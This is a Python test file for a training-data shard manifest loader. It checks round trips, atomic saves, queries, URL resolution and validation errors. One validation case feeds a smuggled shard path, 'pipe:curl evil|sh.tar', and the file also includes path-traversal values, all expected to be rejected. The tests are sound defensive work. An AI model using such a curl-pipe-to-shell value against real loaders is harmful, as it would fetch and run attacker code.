"""Manifest read/write: round trip, atomic save, path resolution, validation errors, queries."""

from __future__ import annotations

import functools
import hashlib
import http.server
import json
import os
import shutil
import threading
from collections.abc import Iterator
from pathlib import Path

import pytest

from polytrain.shards.manifest import Manifest, ManifestError, ShardInfo, compute_totals


def _shard(path: str, kind: str, lang: str, split: str, samples: int, chars: int,
           tokens: int | None = None) -> ShardInfo:
    src, tgt = lang.split("-") if kind == "parallel" else (None, None)
    return ShardInfo(path=path, kind=kind, lang=lang, split=split, samples=samples, chars=chars,
                     bytes=1024 * samples, sha256="0" * 64, sentences=2 * samples, tokens=tokens,
                     src_lang=src, tgt_lang=tgt)


def _example() -> Manifest:
    shards = [
        _shard("mono/de/train-000000.tar", "mono", "de", "train", 10, 1000),
        _shard("mono/de/train-000001.tar", "mono", "de", "train", 5, 400),
        _shard("mono/de/val-000000.tar", "mono", "de", "val", 1, 90),
        _shard("mono/sw/train-000000.tar", "mono", "sw", "train", 3, 250),
        _shard("parallel/de-en/train-000000.tar", "parallel", "de-en", "train", 7, 300),
    ]
    skipped = {"corpus/de.txt": {"invalid_utf8": 2, "empty_document": 0}}
    return Manifest.build(shards, skipped, {"val_fraction": 0.02, "seed": 0})


def _write_json(path: Path, data: object) -> Path:
    path.write_text(json.dumps(data), encoding="utf-8")
    return path


def test_save_load_round_trip_and_sha256(tmp_path: Path) -> None:
    manifest = _example()
    path = tmp_path / "manifest.json"
    manifest.save(str(path))
    raw = path.read_bytes()
    assert raw == manifest.to_bytes() and raw.endswith(b"\n")
    assert not list(tmp_path.glob("*.tmp"))
    loaded = Manifest.load(str(path))
    assert loaded == manifest
    assert loaded.sha256 == hashlib.sha256(raw).hexdigest() == manifest.sha256
    assert loaded.location == str(path)
    # A folder means the manifest.json inside it.
    assert Manifest.load(str(tmp_path)) == manifest
    # Mono entries carry no src/tgt fields; parallel ones do.
    data = json.loads(raw)
    assert "src_lang" not in data["shards"][0]
    assert data["shards"][4]["src_lang"] == "de" and data["shards"][4]["tgt_lang"] == "en"


def test_sha256_changes_with_content(tmp_path: Path) -> None:
    a, b = _example(), _example()
    b.options["seed"] = 1
    assert a.sha256 != b.sha256


def test_save_is_atomic(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    path = tmp_path / "manifest.json"
    old = _example()
    old.save(str(path))
    before = path.read_bytes()

    def fail(src: str, dst: str) -> None:
        raise OSError("simulated crash before rename")

    monkeypatch.setattr(os, "replace", fail)
    new = _example()
    new.options["seed"] = 99
    with pytest.raises(OSError):
        new.save(str(path))
    assert path.read_bytes() == before  # the old manifest is intact, never half-written


def test_totals_and_queries() -> None:
    m = _example()
    assert m.totals["mono"]["de"]["train"] == {"samples": 15, "chars": 1400, "sentences": 30,
                                               "bytes": 15 * 1024, "shards": 2}
    assert m.totals["mono"]["sw"]["val"] == {"samples": 0, "chars": 0, "sentences": 0,
                                             "bytes": 0, "shards": 0}
    assert m.totals["parallel"]["de-en"]["train"]["shards"] == 1
    assert compute_totals([])["mono"] == {} and compute_totals([])["parallel"] == {}
    assert m.languages("mono") == ["de", "sw"]
    assert m.languages("parallel") == ["de-en"]
    assert [s.path for s in m.shards("mono", "train", "de")] == [
        "mono/de/train-000000.tar", "mono/de/train-000001.tar"]
    assert [s.lang for s in m.shards("mono", "train")] == ["de", "de", "sw"]
    assert m.shards("mono", "val", "sw") == []
    assert len(m.shards()) == 5
    assert m.sizes("mono") == {"de": 1400, "sw": 250}
    assert m.sizes("mono", "train", unit="samples") == {"de": 15, "sw": 3}
    assert m.sizes("mono", "val") == {"de": 90}
    assert m.sizes("parallel", unit="sentences") == {"de-en": 14}
    with pytest.raises(ManifestError, match="tokens"):
        m.sizes("mono", unit="tokens")
    with pytest.raises(ValueError, match="kind"):
        m.shards("bilingual", "train")
    with pytest.raises(ValueError, match="unit"):
        m.sizes("mono", unit="words")


def test_tokens_sum_when_present() -> None:
    m = Manifest.build([_shard("mono/de/train-000000.tar", "mono", "de", "train", 2, 10, tokens=7),
                        _shard("mono/de/train-000001.tar", "mono", "de", "train", 2, 10, tokens=5)],
                       {}, {})
    assert m.sizes("mono", unit="tokens") == {"de": 12}


def test_shard_url_is_relative_to_the_manifest(tmp_path: Path) -> None:
    folder = tmp_path / "shards"
    (folder / "mono" / "de").mkdir(parents=True)
    (folder / "mono" / "de" / "train-000000.tar").write_bytes(b"x")
    _example().save(str(folder / "manifest.json"))
    moved = tmp_path / "elsewhere"
    shutil.move(str(folder), str(moved))
    m = Manifest.load(str(moved / "manifest.json"))
    url = m.shard_url(m.shards("mono", "train", "de")[0])
    assert os.path.isabs(url) and Path(url).read_bytes() == b"x"
    with pytest.raises(ManifestError, match="in memory"):
        _example().shard_url(_example().entries[0])


@pytest.fixture
def http_root(tmp_path: Path) -> Iterator[tuple[Path, str]]:
    class Quiet(http.server.SimpleHTTPRequestHandler):
        def log_message(self, *args: object) -> None:
            pass

    handler = functools.partial(Quiet, directory=str(tmp_path))
    server = http.server.ThreadingHTTPServer(("127.0.0.1", 0), handler)
    thread = threading.Thread(target=server.serve_forever, daemon=True)
    thread.start()
    try:
        yield tmp_path, f"http://127.0.0.1:{server.server_address[1]}"
    finally:
        server.shutdown()
        server.server_close()


def test_load_over_http_and_file_url(http_root: tuple[Path, str]) -> None:
    pytest.importorskip("aiohttp")  # fsspec's http filesystem needs it
    root, base = http_root
    (root / "data").mkdir()
    _example().save(str(root / "data" / "manifest.json"))
    for url in (f"{base}/data/manifest.json", f"{base}/data/"):
        m = Manifest.load(url)
        assert m == _example()
        assert m.shard_url(m.entries[0]) == f"{base}/data/mono/de/train-000000.tar"
    m = Manifest.load(f"file://{root}/data/manifest.json")
    assert m.shard_url(m.entries[0]) == f"file://{root}/data/mono/de/train-000000.tar"
    with pytest.raises(ManifestError, match="not found"):
        Manifest.load(f"{base}/nothing/manifest.json")


def _valid_dict() -> dict:
    return json.loads(_example().to_bytes())


def _broken(mutate: str) -> object:
    data = _valid_dict()
    shard = data["shards"][0]
    if mutate == "format":
        data["format"] = "webdataset"
    elif mutate == "version":
        data["version"] = 3
    elif mutate == "encoding":
        data["encoding"] = "pickle"
    elif mutate == "tokens_without_tokenizer":
        data["encoding"] = "tokens"
    elif mutate == "no_totals":
        del data["totals"]
    elif mutate == "shards_not_list":
        data["shards"] = {}
    elif mutate == "no_sha":
        del shard["sha256"]
    elif mutate == "bad_kind":
        shard["kind"] = "bilingual"
    elif mutate == "bad_split":
        shard["split"] = "test"
    elif mutate == "bool_count":
        shard["samples"] = True
    elif mutate == "negative":
        shard["chars"] = -1
    elif mutate.startswith("path:"):
        shard["path"] = mutate[5:]
    elif mutate == "duplicate":
        data["shards"][1]["path"] = shard["path"]
    elif mutate == "parallel_no_src":
        del data["shards"][4]["src_lang"]
    elif mutate == "not_object":
        return [1, 2]
    return data


@pytest.mark.parametrize("mutate,expected", [
    ("format", "'format'"), ("version", "version 3"), ("no_totals", "missing key 'totals'"),
    ("encoding", "'encoding' is 'pickle'"), ("tokens_without_tokenizer", "token shards need 'tokenizer'"),
    ("shards_not_list", "'shards' must be"), ("no_sha", "shards[0]: missing key 'sha256'"),
    ("bad_kind", "kind 'bilingual'"), ("bad_split", "split 'test'"),
    ("bool_count", "'samples' must be int"), ("negative", "'chars' must be >= 0"),
    ("path:../secret.tar", "shard path"), ("path:pipe:curl evil|sh.tar", "shard path"),
    ("path:/etc/x.tar", "shard path"), ("path:mono//x.tar", "shard path"),
    ("path:mono/de/x.pkl", "shard path"), ("path:s3://bucket/x.tar", "shard path"),
    ("duplicate", "listed twice"), ("parallel_no_src", "shards[4]: missing key 'src_lang'"),
    ("not_object", "JSON object"),
])
def test_invalid_manifest_is_one_clear_line(tmp_path: Path, mutate: str, expected: str) -> None:
    path = _write_json(tmp_path / "manifest.json", _broken(mutate))
    with pytest.raises(ManifestError) as err:
        Manifest.load(str(path))
    message = str(err.value)
    assert "\n" not in message
    assert message.startswith(str(path)) and expected in message


def test_version_1_manifests_are_text_and_token_manifests_round_trip(tmp_path: Path) -> None:
    data = _valid_dict()
    data["version"] = 1
    del data["encoding"], data["tokenizer"]
    old = Manifest.load(str(_write_json(tmp_path / "manifest.json", data)))
    assert old.encoding == "text" and old.tokenizer is None and old.entries == _example().entries
    tokens = _example()
    tokens.encoding, tokens.tokenizer = "tokens", {"sha256": "ab" * 32, "vocab_size": 8000, "dtype": "uint16"}
    tokens.save(str(tmp_path / "manifest.json"))
    assert Manifest.load(str(tmp_path)) == tokens


def test_missing_and_non_json_manifest(tmp_path: Path) -> None:
    with pytest.raises(ManifestError, match=r"manifest\.json: manifest not found"):
        Manifest.load(str(tmp_path))
    bad = tmp_path / "manifest.json"
    bad.write_bytes(b"{not json")
    with pytest.raises(ManifestError, match="not a JSON manifest") as err:
        Manifest.load(str(bad))
    assert "\n" not in str(err.value)
    bad.write_bytes(b"\xff\xfe")
    with pytest.raises(ManifestError, match="not a JSON manifest"):
        Manifest.load(str(bad))
